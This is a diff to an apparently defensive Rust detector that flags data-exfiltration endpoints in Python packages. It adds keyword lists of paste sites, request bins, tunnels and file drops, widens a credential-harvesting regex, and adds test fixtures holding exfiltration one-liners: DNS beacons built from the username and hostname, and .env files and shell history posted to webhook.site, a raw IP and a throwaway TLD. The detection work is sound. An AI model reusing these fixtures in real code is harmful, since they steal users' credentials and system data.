@@ -8,6 +8,13 @@
 //! medium (a library integration) unless the file also harvests credentials or
 //! system facts.
 //!
+//! Destinations by reputation come from [`super::reputation`] (the one list):
+//! paste sites and file drops Medium (install High); out-of-band collaborators, request
+//! bins and tunnels likewise, but High (install Critical) when the file also harvests
+//! credentials or system facts. A Python file that sends and names a URL on a throwaway
+//! TLD, free hosting or a raw public IP: Medium, High when it also harvests (install
+//! one step up).
+//!
 //! Also reports DNS exfiltration (see [`super::dns_exfil`]): a lookup of a name
 //! built from harvested user/host/environment data, High (install time Critical).
 //!
@@ -15,7 +22,11 @@
 //! concatenated, so no scheme is required); Python comments/docstrings, tests and
 //! docs are skipped.
 
+use super::net_ip_address::public_ip;
 use super::pysrc::{self, Kind, MAX_HITS_PER_FILE};
+use super::reputation::{self, Class};
+use super::sinks::{self, SinkKind};
+use super::urls;
 use crate::model::{Category, FileRole, Severity};
 use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, Interest, TextFile};
 use regex::Regex;
@@ -23,20 +34,18 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "network.exfiltration-endpoint",
-    revision: 1,
+    revision: 2,
     title: "Contains endpoints commonly used for data exfiltration.",
     category: Category::Network,
     severity: Severity::High,
     description: "Webhooks, bot APIs, paste sites, request bins and tunnels are where credential stealers send what they collect.",
 };
 
-/// (pattern, class): class 2 = webhook/bot (high), 1 = paste/bin/tunnel (medium), 0 = raw code host (install-time only).
+/// Webhook/bot APIs (high) and raw code hosts (install-time only). Paste sites, request
+/// bins, collaborators, tunnels and file drops come from [`super::reputation`].
 static ENDPOINT: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(concat!(
         r"(?i)(?P<hook>(?-u:\b)(?:(?:canary\.|ptb\.)?discord(?:app)?\.com/api/(?:v\d+/)?webhooks|hooks\.slack\.com/(?:services|workflows)|api\.telegram\.org/bot|webhook\.office\.com))",
-        r"|(?P<bin>(?-u:\b)(?:pastebin\.com|paste\.ee|hastebin\.com|ghostbin\.\w+|rentry\.(?:co|org)|pastes\.io|dpaste\.(?:com|org)|controlc\.com|justpaste\.it|paste\.rs|termbin\.com",
-        r"|webhook\.site|requestbin\.\w+|[\w-]+\.m\.pipedream\.net|requestcatcher\.com|beeceptor\.com|hookbin\.com|postb\.in|interact\.sh|oast\.(?:fun|pro|live|site|online|me)|burpcollaborator\.net|oastify\.com|canarytokens\.com|dnslog\.cn|ceye\.io",
-        r"|[\w-]+\.ngrok(?:-free)?\.(?:io|app|dev)|ngrok\.io|serveo\.net|localhost\.run|[\w-]+\.trycloudflare\.com|transfer\.sh|file\.io|anonfiles\.com|gofile\.io|temp\.sh|bashupload\.com|0x0\.st|catbox\.moe)(?-u:\b))",
         r"|(?P<raw>(?-u:\b)(?:raw\.githubusercontent\.com|gist\.githubusercontent\.com|gitlab\.com/[^\s'\x22]+/-/raw/|bitbucket\.org/[^\s'\x22]+/raw/))",
     ))
     .expect("endpoint regex")
@@ -49,7 +58,7 @@ static PLACEHOLDER: LazyLock<Regex> = LazyLock::new(|| {
 });
 /// Harvesting in the same file: what an endpoint next to it would carry off.
 static HARVEST: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r"(?i)getpass\.getuser|socket\.gethostname|platform\.(?:node|uname)|os\.getlogin|os\.uname|\.aws[/\\]+credentials|\.ssh[/\\]|Login Data|Local State|leveldb|tdata|\.git-credentials|\.netrc|browser_cookie|wallet|ipify|ipinfo\.io|ifconfig\.me|ImageGrab|pyautogui\.screenshot|clipboard").expect("harvest")
+    Regex::new(r"(?i)(?:dict|json\.dumps)\s*\(\s*os\.environ|\.(?:bash|zsh)_history|~[/\\]\.env(?-u:\b)|os\.environ\.(?:copy|items)|getpass\.getuser|socket\.gethostname|platform\.(?:node|uname)|os\.getlogin|os\.uname|\.aws[/\\]+credentials|\.ssh[/\\]|Login Data|Local State|leveldb|tdata|\.git-credentials|\.netrc|browser_cookie|wallet|ipify|ipinfo\.io|ifconfig\.me|ImageGrab|pyautogui\.screenshot|clipboard").expect("harvest")
 });
 
 /// The URL's tail after the endpoint (`/123/abc` of a webhook), up to a quote or space.
@@ -72,28 +81,40 @@ impl Detector for ExfilEndpoint {
             "hooks.slack",
             "api.telegram",
             "webhook",
-            "paste",
-            "hastebin",
-            "ghostbin",
-            "rentry",
-            "controlc",
-            "termbin",
+            // destinations by reputation (`super::reputation::LITERALS`)
+            "interact",
+            "oast",
+            "burpcollaborator",
+            "canarytokens",
+            "dnslog",
+            "ceye.io",
+            "requestrepo",
+            "webhook.site",
             "requestbin",
             "pipedream",
             "requestcatcher",
             "beeceptor",
             "hookbin",
             "postb.in",
-            "interact.sh",
-            "oast",
-            "burpcollaborator",
-            "canarytokens",
-            "dnslog",
-            "ceye.io",
             "ngrok",
             "serveo",
             "localhost.run",
+            "lhr.life",
+            "loca.lt",
+            "localtunnel",
             "trycloudflare",
+            "bore.pub",
+            "pagekite",
+            "telebit",
+            "localxpose",
+            "paste",
+            "hastebin",
+            "ghostbin",
+            "rentry",
+            "controlc",
+            "termbin",
+            "ix.io",
+            "sprunge",
             "transfer.sh",
             "file.io",
             "anonfiles",
@@ -102,10 +123,26 @@ impl Detector for ExfilEndpoint {
             "bashupload",
             "0x0.st",
             "catbox",
+            "filebin",
+            "tmpfiles",
+            "oshi.at",
+            "pixeldrain",
+            "uguu.se",
+            "sendspace",
+            "mediafire",
             "raw.githubusercontent",
             "gist.githubusercontent",
             "/-/raw/",
             "/raw/",
+            // sends to throwaway/free/raw-IP destinations
+            "requests.post",
+            "requests.put",
+            "httpx.post",
+            "urlopen",
+            "Request(",
+            "sendall",
+            "smtplib",
+            "http.client",
             // DNS exfiltration (`super::dns_exfil::LITERALS`)
             "gethostbyname",
             "getaddrinfo",
@@ -125,11 +162,8 @@ impl Detector for ExfilEndpoint {
         }
         let harvest = std::cell::OnceCell::new();
         let harvests = || *harvest.get_or_init(|| HARVEST.is_match(file.text));
-        let mut n = 0;
+        let mut found: Vec<(usize, String, Severity)> = Vec::new();
         for c in ENDPOINT.captures_iter(file.text) {
-            if n >= MAX_HITS_PER_FILE {
-                break;
-            }
             let m = c.get(0).expect("match");
             if src.python && !matches!(src.kind_at(m.start()), Kind::Code | Kind::Str) {
                 continue;
@@ -150,20 +184,55 @@ impl Detector for ExfilEndpoint {
                 } else {
                     Severity::Medium
                 }
-            } else if c.name("bin").is_some() {
-                if install {
-                    Severity::High
-                } else {
-                    Severity::Medium
-                }
             } else if install {
                 Severity::Medium
             } else {
                 continue;
             };
-            n += 1;
-            let ind = m.as_str().to_ascii_lowercase();
-            hits.push(&META, Hit { severity: Some(sev), evidence: pysrc::evidence(file, m.start(), ind) });
+            found.push((m.start(), m.as_str().to_ascii_lowercase(), sev));
+            if found.len() >= MAX_HITS_PER_FILE {
+                break;
+            }
+        }
+        // Destinations by reputation. Collaborators, request bins and tunnels exist to
+        // receive calls: next to harvesting they are a beacon (high, install critical).
+        for (start, end, class) in reputation::in_text(file.text).take(MAX_HITS_PER_FILE) {
+            if src.python && !matches!(src.kind_at(start), Kind::Code | Kind::Str) {
+                continue;
+            }
+            let receiver = matches!(class, Class::Collaborator | Class::RequestBin | Class::Tunnel);
+            let sev = match (install, receiver && harvests()) {
+                (true, true) => Severity::Critical,
+                (true, false) | (false, true) => Severity::High,
+                (false, false) => Severity::Medium,
+            };
+            let host = file.text[start..end].to_ascii_lowercase();
+            found.push((start, format!("{host} ({})", class.as_str()), sev));
+        }
+        // Sends to a destination with no name to lose: a throwaway TLD, free hosting or a
+        // raw public IP, in a Python file that sends (medium) or harvests and sends (high).
+        if src.python && file.text.contains("://") {
+            let net = sinks::find(src, &[SinkKind::Send, SinkKind::Fetch]);
+            let send = net.iter().find(|s| s.kind == SinkKind::Send && !s.name.ends_with("connect"));
+            if let Some(sink) = send.or(net.first()).filter(|_| send.is_some() || harvests()) {
+                for u in urls::find(src).take(MAX_HITS_PER_FILE) {
+                    let class = match reputation::of_url(&u.host, u.path) {
+                        Some(c @ (Class::ThrowawayTld | Class::FreeHosting)) => c.as_str(),
+                        _ if public_ip(&u.host) => "raw IP",
+                        _ => continue,
+                    };
+                    let sev = match (install, harvests()) {
+                        (true, true) => Severity::Critical,
+                        (true, false) | (false, true) => Severity::High,
+                        (false, false) => Severity::Medium,
+                    };
+                    found.push((u.offset, format!("{} ({class}) + {}", u.host, sink.name), sev));
+                }
+            }
+        }
+        found.sort_by_key(|f| f.0);
+        for (off, ind, sev) in found.into_iter().take(MAX_HITS_PER_FILE) {
+            hits.push(&META, Hit { severity: Some(sev), evidence: pysrc::evidence(file, off, ind) });
         }
     }
 }
@@ -176,9 +245,9 @@ mod tests {
     use Severity::*;
 
     #[test]
-    fn prefilter_covers_the_dns_exfiltration_literals() {
+    fn prefilter_covers_the_dns_exfiltration_and_reputation_literals() {
         let Interest::Literals(mine) = ExfilEndpoint.interest() else { panic!("literal prefilter expected") };
-        for lit in super::super::dns_exfil::LITERALS {
+        for lit in super::super::dns_exfil::LITERALS.iter().chain(reputation::LITERALS) {
             assert!(mine.contains(lit), "{lit} missing from the prefilter");
         }
     }
@@ -244,14 +313,14 @@ mod tests {
                     "pkg/a.py",
                     Runtime,
                     "u = 'https://pastebin.com/raw/abc'\n",
-                    Some((1, "pastebin.com", Medium)),
+                    Some((1, "pastebin.com (paste site)", Medium)),
                 ),
                 (
                     "ngrok",
                     "pkg/a.py",
                     Runtime,
                     "H = 'abc123.ngrok-free.app'\n",
-                    Some((1, "abc123.ngrok-free.app", Medium)),
+                    Some((1, "abc123.ngrok-free.app (tunnel)", Medium)),
                 ),
                 (
                     "raw host at install",
@@ -305,6 +374,92 @@ mod tests {
                     "u = 'https://nothooks.slack.com/services/T1/B2/abc'\n",
                     None,
                 ),
+                (
+                    "dns beacon through an f-string to a collaborator",
+                    "pkg/__init__.py",
+                    Runtime,
+                    "import socket, getpass, os\nsocket.gethostbyname(f\"{getpass.getuser()}.{socket.gethostname()}.c1.oast.fun\")\n",
+                    Some((2, "DNS lookup of harvested data (socket.gethostbyname)", High)),
+                ),
+                (
+                    "dns beacon name built in a variable",
+                    "setup.py",
+                    InstallTime,
+                    "import socket, getpass\nu = getpass.getuser()\nname = f'{u}.{socket.gethostname()}.x.example.org'\nsocket.gethostbyname(name)\n",
+                    Some((4, "DNS lookup of harvested data (socket.gethostbyname)", Critical)),
+                ),
+                (
+                    "collaborator callback with host and user",
+                    "pkg/a.py",
+                    Runtime,
+                    "import requests, socket, getpass\nrequests.get('http://c1abc.oast.pro/cb', params={'h': socket.gethostname(), 'u': getpass.getuser()})\n",
+                    Some((2, "c1abc.oast.pro (out-of-band collaborator)", High)),
+                ),
+                (
+                    "dependency-confusion callback in setup.py",
+                    "setup.py",
+                    InstallTime,
+                    "import os, urllib.request\nurllib.request.urlopen('https://eo2abc.m.pipedream.net/?d=' + os.getcwd() + getpass.getuser())\n",
+                    Some((2, "eo2abc.m.pipedream.net (request bin)", Critical)),
+                ),
+                (
+                    "localtunnel endpoint alone",
+                    "pkg/a.py",
+                    Runtime,
+                    "BASE = 'https://quiet-fox-12.loca.lt/api'\n",
+                    Some((1, "quiet-fox-12.loca.lt (tunnel)", Medium)),
+                ),
+                (
+                    "request bin at install without harvesting",
+                    "setup.py",
+                    InstallTime,
+                    "import requests\nrequests.get('https://webhook.site/4f1c')\n",
+                    Some((2, "webhook.site (request bin)", High)),
+                ),
+                (
+                    "file drop",
+                    "pkg/a.py",
+                    Runtime,
+                    "requests.post('https://transfer.sh/x', data=blob)\n",
+                    Some((1, "transfer.sh (file drop)", Medium)),
+                ),
+                (
+                    "host and user posted to a throwaway TLD",
+                    "pkg/__init__.py",
+                    Runtime,
+                    "import requests, socket, getpass\nrequests.post('https://pkg-stats.tk/c', json={'h': socket.gethostname(), 'u': getpass.getuser()})\n",
+                    Some((2, "pkg-stats.tk (throwaway TLD) + requests.post", High)),
+                ),
+                (
+                    "env file posted to a raw IP at install",
+                    "setup.py",
+                    InstallTime,
+                    "import requests\nrequests.post('http://45.77.12.9:8000/u', data=open('.env').read())\n",
+                    Some((2, "45.77.12.9 (raw IP) + requests.post", High)),
+                ),
+                (
+                    "fetch from a raw IP without harvesting is left to the URL detectors",
+                    "pkg/a.py",
+                    Runtime,
+                    "r = requests.get('http://45.77.12.9/data.json')\n",
+                    None,
+                ),
+                (
+                    "http client library posting to the configured URL",
+                    "httpkit/client.py",
+                    Runtime,
+                    "class Client:\n    def post(self, url, data):\n        return requests.post(url, data=data)\n",
+                    None,
+                ),
+                (
+                    "shell history sent to a request bin",
+                    "pkg/sync.py",
+                    Runtime,
+                    "def sync():\n    h = open(os.path.expanduser('~/.bash_history')).read()\n    requests.post('https://webhook.site/7d1e', data=h)\n",
+                    Some((3, "webhook.site (request bin)", High)),
+                ),
+                ("look-alike name is not the service", "pkg/a.py", Runtime, "u = 'https://mypaste.ee.example.org/x'\n", None),
+                ("collaborator named in a comment", "pkg/a.py", Runtime, "# test with interactsh: x.oast.fun\nx = 1\n", None),
                 (
                     "real discord webhook in setup.py",
                     "setup.py",
